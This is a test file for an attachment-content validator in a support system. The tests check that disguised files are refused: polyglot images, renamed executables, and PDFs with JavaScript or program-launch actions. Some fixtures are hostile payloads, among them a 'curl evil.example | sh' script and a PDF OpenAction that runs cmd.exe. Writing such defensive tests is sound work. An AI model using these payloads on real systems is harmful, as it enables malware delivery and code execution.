import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { createRouter } from '../../../../main/api/router';
import { ATTACHMENTS_DIR_NAME, type CounterCore } from '../../../../main/core/counter-core';
import { openTestCore } from '../../../fixtures/core';
import { AttachmentError, checkAttachmentContent } from '../../../../main/core/support/attachments';
import { file, JPEG } from '../../../fixtures/attachment-files';
import { testHandlers } from '../../../fixtures/handlers';
import { useTempDir } from '../../../fixtures/temp-dir';

const tempDir = useTempDir();
const opened: CounterCore[] = [];
afterEach(() => opened.splice(0).forEach((c) => c.close()));

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d2b3a30000000049454e44ae426082',
  'hex',
);
const pdf = (body: string) =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
/** A PDF whose only action hides in a compressed object stream, where a plain byte search does not see it. */
const pdfWithHiddenScript = Buffer.concat([
  Buffer.from('%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n', 'latin1'),
  deflateSync(Buffer.from('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')),
  Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1'),
]);
/** The first bytes of a Windows program and of a Linux one. */
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00', 'latin1'), Buffer.alloc(64)]);
const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(64)]);
const b64 = (b: Buffer) => b.toString('base64');

function setup() {
  const dir = tempDir();
  const { core } = openTestCore(dir);
  opened.push(core);
  const router = createRouter(testHandlers(core));
  const c = core.support.open({
    networkId: 'demo-it',
    subject: 'Etichetta',
    email: 'shop@example.com',
    product: 'scanner',
    requestType: 'technical',
    impact: 'blocked',
    description: 'x',
  });
  const reply = (files: { fileName: string; mimeType: string; bytes: Buffer }[]) =>
    router.dispatch('support.reply', {
      caseId: c.id,
      body: 'see attached',
      attachments: files.map((f) => ({ fileName: f.fileName, mimeType: f.mimeType, base64: b64(f.bytes) })),
    });
  const written = () => {
    const folder = join(dir, ATTACHMENTS_DIR_NAME);
    return existsSync(folder) ? readdirSync(folder) : [];
  };
  return { core, caseId: c.id, reply, written };
}

describe('attachments are judged by their content, whatever their name', () => {
  const refused: [string, { fileName: string; mimeType: string; bytes: Buffer }][] = [
    [
      'a PNG that is also an HTML page',
      { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('<html><script>alert(1)</script></html>')]) },
    ],
    [
      'a PNG with HTML inside its chunks',
      {
        fileName: 'photo.png',
        mimeType: 'image/png',
        bytes: Buffer.concat([PNG.subarray(0, 33), Buffer.from('<script src=//x>'), PNG.subarray(33)]),
      },
    ],
    [
      'a PNG carrying a ZIP after its end',
      { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('PK\x03\x04\x14\x00\x00\x00', 'latin1')]) },
    ],
    [
      'a PNG with bytes after its end',
      { fileName: 'photo.png', mimeType: 'image/png', bytes: Buffer.concat([PNG, Buffer.from('trailing')]) },
    ],
    [
      'a "PNG" whose first bytes are right and the rest is not',
      {
        fileName: 'photo.png',
        mimeType: 'image/png',
        bytes: Buffer.concat([PNG.subarray(0, 8), Buffer.from('not an image at all, IEND'), Buffer.alloc(8, 1)]),
      },
    ],
    ['a Windows program named .txt', { fileName: 'notes.txt', mimeType: 'text/plain', bytes: EXE }],
    ['a Linux program named .log', { fileName: 'scanner.log', mimeType: 'text/plain', bytes: ELF }],
    [
      'a ZIP named .csv',
      {
        fileName: 'list.csv',
        mimeType: 'text/csv',
        bytes: Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(40)]),
      },
    ],
    [
      'a shell script named .txt',
      { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') },
    ],
    [
      'an HTML page named .txt',
      { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from('Hello\n<script>fetch("//evil.example")</script>') },
    ],
    [
      'a PDF with JavaScript',
      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>') },
    ],
    [
      'a PDF with JavaScript spelt with #xx escapes',
      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>') },
    ],
    [
      'a PDF with JavaScript inside a compressed object stream',
      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdfWithHiddenScript },
    ],
    [
      'a PDF that launches a program',
      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/OpenAction << /S /Launch /F (cmd.exe) >>') },
    ],
    ['a PDF carrying files', { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/Names << /EmbeddedFiles 3 0 R >>') }],
    [
      'a text file that is not UTF-8 text',
      { fileName: 'notes.txt', mimeType: 'text/plain', bytes: Buffer.from([0x68, 0x69, 0xff, 0xfe, 0x00]) },
    ],
  ];

  it.each(refused)('refuses %s, and writes nothing of the message', async (_name, file) => {
    const { core, caseId, reply, written } = setup();
    const answer = await reply([{ fileName: 'ok.png', mimeType: 'image/png', bytes: PNG }, file]);
    expect(answer).toMatchObject({ ok: false, error: { code: 'BAD_INPUT', fields: ['attachments'] } });
    expect(core.support.messages(caseId)).toHaveLength(1);
    expect(written()).toEqual([]);
  });

  it('accepts a real PNG, a plain PDF and UTF-8 text with accents', async () => {
    const { core, caseId, reply, written } = setup();
    const answer = await reply([
      { fileName: 'photo.png', mimeType: 'image/png', bytes: PNG },
      { fileName: 'label.pdf', mimeType: 'application/pdf', bytes: pdf('/Lang (it-IT)') },
      { fileName: 'note.txt', mimeType: 'text/plain', bytes: Buffer.from('Però è così: 3 < 4 > 2, "html" e "script" sono parole.\n') },
    ]);
    expect(answer).toMatchObject({ ok: true });
    expect(core.support.messages(caseId).at(-1)!.attachments).toHaveLength(3);
    expect(written()).toHaveLength(3);
  });
});

describe('attachment names', () => {
  it('lose control and bidirectional characters, so what staff and operators read is the real name', async () => {
    const { core, caseId, reply } = setup();
    const answer = await reply([
      { fileName: 'photo\u202etxt.png', mimeType: 'image/png', bytes: PNG },
      { fileName: 'a\u0000b\u0007\u2066c\u2069.txt', mimeType: 'text/plain', bytes: Buffer.from('hi') },
    ]);
    expect(answer).toMatchObject({ ok: true });
    expect(
      core.support
        .messages(caseId)
        .at(-1)!
        .attachments.map((a) => a.fileName),
    ).toEqual(['phototxt.png', 'abc.txt']);
  });

  it('refuse a name that is nothing but such characters', async () => {
    const { reply } = setup();
    expect(await reply([{ fileName: '\u202e\u0000', mimeType: 'text/plain', bytes: Buffer.from('hi') }])).toMatchObject({
      ok: false,
      error: { code: 'BAD_INPUT' },
    });
  });
});

describe('what the bytes are, read before anything is written', () => {
  const refusedByContent = async (files: ReturnType<typeof file>[]) => {
    const error = await checkAttachmentContent(files).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(AttachmentError);
    return error as AttachmentError;
  };

  it('refuses a "text" file that is a picture in text clothing, saying what it is', async () => {
    const error = await refusedByContent([file('notes.txt', 'text/plain', 'GIF89a looks like text')]);
    expect(error).toMatchObject({
      problem: 'unsafe',
      reason: 'attachmentUnsafe',
      params: { file: 'notes.txt' },
      message: 'notes.txt is not really a text/plain file (it is image/gif)',
    });
  });

  it('refuses a PNG that is a JPEG, with its clean name', async () => {
    const error = await refusedByContent([file('ph\u202eoto.png', 'image/png', JPEG)]);
    expect(error).toMatchObject({
      problem: 'type',
      reason: 'attachmentType',
      params: { file: 'photo.png' },
      message: 'photo.png is not really a image/png file (it is image/jpeg)',
    });
  });

  it('refuses a PNG whose bytes are no known format', async () => {
    const error = await refusedByContent([file('photo.png', 'image/png', Buffer.from('\x89PNG and no more', 'latin1'))]);
    expect(error.message).toBe('photo.png is not really a image/png file');
  });

  it('looks at every file, not only the first', async () => {
    expect((await refusedByContent([file('ok.png', 'image/png', PNG), file('notes.txt', 'text/plain', 'GIF89a')])).params).toEqual({
      file: 'notes.txt',
    });
  });

  it('takes a real PNG, a JPEG and plain text', async () => {
    await expect(
      checkAttachmentContent([
        file('photo.png', 'image/png', PNG),
        file('photo.jpg', 'image/jpeg', JPEG),
        file('notes.txt', 'text/plain', 'ok'),
      ]),
    ).resolves.toBeUndefined();
  });
});
